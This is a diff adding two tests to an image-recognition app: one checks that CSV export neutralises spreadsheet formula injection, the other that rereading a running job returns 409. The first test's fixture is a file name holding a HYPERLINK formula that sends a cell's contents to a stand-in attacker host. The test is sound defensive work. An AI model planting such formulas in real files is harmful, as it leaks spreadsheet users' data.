@@ -135,3 +135,18 @@ def test_rerun_failed_images_sends_them_again(job, monkeypatch, django_capture_o
     job.refresh_from_db()
     assert job.status == "running" and job.processed == 12 and job.failed == 1
     assert Image.objects.get(id=target.id).status == "pending"
+
+
+def test_a_file_name_a_spreadsheet_would_run_as_a_formula_is_exported_as_text():
+    from recognition.exports import csv_lines, export_row
+
+    named = Image(name='=HYPERLINK("http://evil.example/?x="&A2,"open").png', status="done", digit=3, text="-12.5")
+    rows = list(csv.reader(io.StringIO("".join(csv_lines([named])))))
+    assert rows[1][0] == "'" + named.name and rows[1][3] == "-12.5", "the reader's own text is left as it is"
+    assert export_row(named)["name"] == named.name, "JSON keeps the name as uploaded"
+
+
+def test_a_job_still_being_read_is_not_read_again_through_the_api():
+    job = Job.objects.create(kind="zip", upload_name="x.zip", total=1, status="running")
+    response = APIClient().post(f"/api/jobs/{job.id}/reread/", {}, format="json")
+    assert response.status_code == 409 and "only a job that is done or failed" in response.json()["detail"]
